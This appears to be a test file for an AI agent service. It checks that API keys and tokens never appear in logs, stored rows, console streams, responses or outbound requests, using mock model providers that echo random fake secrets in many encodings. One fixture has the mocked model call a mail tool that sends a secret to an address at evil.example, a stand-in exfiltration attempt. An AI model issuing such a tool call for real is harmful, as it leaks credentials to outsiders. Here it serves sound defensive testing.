// A secret value in every binding, and services that echo what they get in every way they can.
// No value may turn up anywhere but in the one place where its own route attaches it.

import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { after, before, test } from "node:test";
import { loginCode } from "../../scripts/lib/login.mjs";
import { finder, written } from "./forms.mjs";
import { readRows, until } from "./harness.mjs";
import { REPLY_URL, completion, startAgent } from "./support.mjs";

const fresh = (prefix) => `${prefix}${randomBytes(18).toString("hex")}`;

const SECRETS = {
  WEBHOOK_TOKEN: fresh("wt-"),
  CONSOLE_TOKEN: fresh("ct-"),
  SEAL_KEY: fresh("sk-"),
  TELEGRAM_BOT_TOKEN: `7${randomBytes(4).readUInt32BE()}:${fresh("AA")}`,
  TELEGRAM_WEBHOOK_SECRET: fresh("ts-"),
  OPENAI_API_KEY: fresh("sk-proj-"),
  ANTHROPIC_API_KEY: fresh("sk-ant-"),
  WEBHOOK_SIGNING_SECRET: `whsec_${randomBytes(24).toString("base64")}`,
};
/** Bindings that nothing reads today: no service can know them, and nothing may tell them. */
const UNREAD = { SLACK_BOT_TOKEN: fresh("xoxb-"), SLACK_SIGNING_SECRET: fresh("ss-"), DISCORD_BOT_TOKEN: fresh("db-") };
/** What the services echo. */
const KNOWN = Object.values(SECRETS);
const ALL = [...KNOWN, ...Object.values(UNREAD)];
/** Finds any of them in a text, in any way to write it and in parts. */
const found = finder(ALL);

const responses = [];
let agent;
let provider = "openai";

function assertClean(text, where) {
  const part = found(text);
  assert.ok(part === undefined, `${where} holds ${part}: ${text.slice(0, 400)}`);
}

test("every way to write a secret would be found here", () => {
  for (const value of ALL) {
    for (const way of written(value)) assert.ok(found(`It is ${way}, so there.`), way);
  }
  assertClean(JSON.stringify({ text: "sk-proj- wt- ordinary words", hash: randomBytes(500).toString("hex"), file: randomBytes(5_000).toString("base64") }), "chance");
});

/** What every service says. */
const ECHO = `I was told ${KNOWN.join(" and ")}.`;
/** The same in every way to write it. */
const FORMS = `I was told ${KNOWN.flatMap(written).join(" | ")}.`;

const anthropic = (blocks) => Response.json({ id: "m", type: "message", role: "assistant", model: "m", content: blocks, stop_reason: blocks.at(-1).type === "tool_use" ? "tool_use" : "end_turn", usage: { input_tokens: 1, output_tokens: 1 } });

async function outbound(request, record) {
  const { hostname } = new URL(record.url);
  const leaky = { "x-echo": ECHO, "set-cookie": `key=${SECRETS.OPENAI_API_KEY}` };
  if (record.url === REPLY_URL) return new Response(ECHO + FORMS, { status: 200, headers: leaky });
  if (hostname === "api.telegram.org") return new Response(JSON.stringify({ ok: false, description: ECHO + FORMS, error_code: 400 }), { status: 400, headers: leaky });
  const prompt = JSON.parse(record.body);
  const words = JSON.stringify(prompt.messages.filter((message) => message.role === "user").at(-1)?.content ?? "");
  const answered = /tool_result|"role":"tool"/.test(JSON.stringify(prompt.messages.slice(prompt.messages.findLastIndex((message) => JSON.stringify(message).includes("ways-")))));
  if (words.includes("ways-error")) return new Response(JSON.stringify({ error: { message: ECHO, type: ECHO } }), { status: 400, headers: leaky });
  if (words.includes("ways-busy")) return new Response(ECHO, { status: 429, headers: { ...leaky, "retry-after": SECRETS.OPENAI_API_KEY } });
  if (words.includes("ways-broken")) return new Response(`data: {"choices":[{"delta":{"content":"${ECHO}`, { headers: { "content-type": "text/event-stream", ...leaky } });
  if (hostname === "api.anthropic.com") {
    if (words.includes("ways-forms")) return anthropic([{ type: "thinking", thinking: FORMS, signature: FORMS }, { type: "text", text: FORMS }]);
    if (words.includes("ways-args") && !answered) return anthropic([{ type: "text", text: ECHO }, { type: "tool_use", id: SECRETS.ANTHROPIC_API_KEY, name: "notes_add", input: { text: ECHO } }]);
    return anthropic([{ type: "thinking", thinking: ECHO, signature: SECRETS.ANTHROPIC_API_KEY }, { type: "text", text: ECHO }]);
  }
  if (words.includes("ways-args") && !answered) {
    return completion({ calls: [["notes_add", { text: ECHO }], ["mail_send", { to: `${SECRETS.OPENAI_API_KEY}@evil.example`, subject: ECHO, body: ECHO }], [SECRETS.SEAL_KEY, { [SECRETS.SEAL_KEY]: 1 }], ["reply", { parts: [ECHO] }]] });
  }
  if (words.includes("ways-forms")) return completion({ pieces: FORMS.match(/[^]{1,7}/gu) });
  if (words.includes("ways-letters")) return completion({ pieces: [...ECHO] });
  if (words.includes("ways-halves")) return completion({ pieces: KNOWN.flatMap((value) => [value.slice(0, -3), value.slice(-3), " "]) });
  return completion({ text: ECHO });
}

/** A request whose whole answer is kept, to be searched at the end. */
async function ask(path, init = {}) {
  const response = await agent.fetch(path, init);
  const text = await response.text();
  responses.push(`${path} ${[...response.headers].join("\n")}\n${text}`);
  return { status: response.status, text, headers: response.headers };
}

const hook = (conversation, text, headers = { prefer: "wait=15" }) =>
  ask("/webhook/generic", { method: "POST", headers: { authorization: `Bearer ${SECRETS.WEBHOOK_TOKEN}`, ...headers }, body: JSON.stringify({ conversation, text }) });

const api = (path, init = {}) => ask(path, { ...init, headers: { authorization: `Bearer ${SECRETS.CONSOLE_TOKEN}` } });

before(async () => {
  agent = await startAgent({ bindings: { ...SECRETS, ...UNREAD, WEBHOOK_REPLY_URL: REPLY_URL, MODEL_PROVIDER: provider, MODEL_NAME: "m" }, outbound, persist: true });
});

after(() => agent.dispose());

const WAYS = ["ways-plain", "ways-letters", "ways-halves", "ways-forms", "ways-args", "ways-error", "ways-broken", "ways-busy"];

/** Lets the model echo everything in every way, by webhook and with a console that watches. */
async function echoAll() {
  const login = await agent.fetch("/api/login", { method: "POST", body: JSON.stringify({ code: loginCode(SECRETS.CONSOLE_TOKEN) }) });
  const url = new URL("/api/socket", agent.url);
  url.protocol = "ws:";
  const socket = new WebSocket(url, { headers: { cookie: login.headers.get("set-cookie").split(";")[0], origin: agent.url.origin } });
  const heard = [];
  socket.addEventListener("message", ({ data }) => heard.push(data));
  await new Promise((resolve) => socket.addEventListener("open", resolve));
  for (const way of WAYS) {
    const answer = await hook(`${provider}-${way}`, `please ${way}`);
    assert.equal(answer.status, 200, `${way}: ${answer.text}`);
    socket.send(JSON.stringify({ type: "say", id: `${provider}-${way}`, text: `please ${way}` }));
    await hook(`${provider}-${way}-later`, `please ${way}`, {});
  }
  await until(async () => (await api("/api/turns")).text.includes(provider === "openai" ? "openai-ways-busy-later" : "anthropic-ways-busy-later"), "all were taken");
  await until(async () => !/"status":"(queued|running)"/.test((await api("/api/turns")).text), "all were done", 40_000);
  socket.close();
  assert.ok(heard.some((data) => data.includes('"message"')));
  // What streams is put together again: a secret may come in pieces.
  const deltas = heard.map((data) => JSON.parse(data)).filter((message) => message.type === "delta");
  assertClean(deltas.map((delta) => delta.text).join(""), "the stream of the console");
  assertClean(heard.join("\n"), "the console's socket");
}

test("a model of one format echoes every secret in every way", echoAll);

test("a model of the other format does the same", async () => {
  provider = "anthropic";
  await agent.restart({ bindings: { ...SECRETS, ...UNREAD, WEBHOOK_REPLY_URL: REPLY_URL, MODEL_PROVIDER: provider, MODEL_NAME: "m" } });
  await echoAll();
});

test("a chat platform that echoes its token, and strangers who guess", async () => {
  const update = (text) => ask("/webhook/telegram", {
    method: "POST",
    headers: { "x-telegram-bot-api-secret-token": SECRETS.TELEGRAM_WEBHOOK_SECRET, "content-type": "application/json" },
    body: JSON.stringify({ update_id: text.length, message: { message_id: 1, date: 1, chat: { id: 5, type: "private" }, from: { id: 5, is_bot: false, first_name: "A" }, text } }),
  });
  assert.equal((await update("/start")).status < 300, true);
  await until(() => agent.egress.some((request) => request.url.includes("api.telegram.org")), "the platform was asked");
  for (const path of ["/", "/healthz", "/api/state", "/api/nothing", "/webhook/nobody", "/api/login"]) {
    await ask(path);
    await ask(path, { method: "POST", body: "{" });
  }
});

test("a secret that the owner pastes is neither stored nor sent, and the chat goes on", async () => {
  const answer = await hook("pasted", `my token is ${SECRETS.SEAL_KEY} and ${SECRETS.OPENAI_API_KEY}`);
  assert.equal(answer.status, 200);
  assert.match(answer.text, /I was told/);
  const next = await hook("pasted", "hello");
  assert.match(next.text, /I was told/);
});

test("nor is one that is pasted in another way of writing it", async () => {
  const ways = written(SECRETS.SEAL_KEY);
  for (const [n, way] of ways.entries()) {
    const answer = await hook("pasted-ways", `way ${n} is ${way}, I think`);
    assert.equal(answer.status, 200, `${way}: ${answer.text}`);
    assert.match(answer.text, /I was told/, way);
  }
  const sent = agent.egress.map((request) => request.body).filter((body) => body.includes("way 0 is [secret], I think"));
  assert.ok(sent.length > 0, "what is left of the message was sent on");
});

test("what the owner can read holds no secret", async () => {
  for (const path of ["/api/state", "/api/turns", "/api/approvals", "/api/audit"]) assert.equal((await api(path)).status, 200);
  for (const turn of JSON.parse((await api("/api/turns")).text).turns) await api(`/api/turns/${turn.id}`);
  for (const text of responses) assertClean(text, text.slice(0, text.indexOf(" ")));
});

test("no log line and no stored row holds a secret", async () => {
  assertClean(agent.logText(), "the log");
  const rows = readRows(agent.folder);
  assert.ok(rows.length > 50 && rows.some((row) => row.text.includes("ways-args")));
  for (const row of rows) assertClean(row.text, `a row of ${row.table}`);
});

test("each secret leaves only where its own route attaches it", () => {
  const hosts = new Set(agent.egress.map((request) => new URL(request.url).hostname));
  assert.deepEqual([...hosts].sort(), ["api.anthropic.com", "api.openai.com", "api.telegram.org", "replies.example"]);
  for (const { url, headers, body } of agent.egress) {
    assertClean(body, `the body to ${new URL(url).hostname}`);
    const { hostname } = new URL(url);
    const rest = { ...headers };
    let address = url;
    if (hostname === "api.openai.com") {
      assert.equal(rest.authorization, `Bearer ${SECRETS.OPENAI_API_KEY}`);
      delete rest.authorization;
    }
    if (hostname === "api.anthropic.com") {
      assert.equal(rest["x-api-key"], SECRETS.ANTHROPIC_API_KEY);
      delete rest["x-api-key"];
    }
    if (hostname === "api.telegram.org") address = address.replace(`/bot${SECRETS.TELEGRAM_BOT_TOKEN}/`, "/bot/");
    assertClean(decodeURIComponent(address), `the address at ${hostname}`);
    assertClean(JSON.stringify(rest), `the headers to ${hostname}`);
  }
});
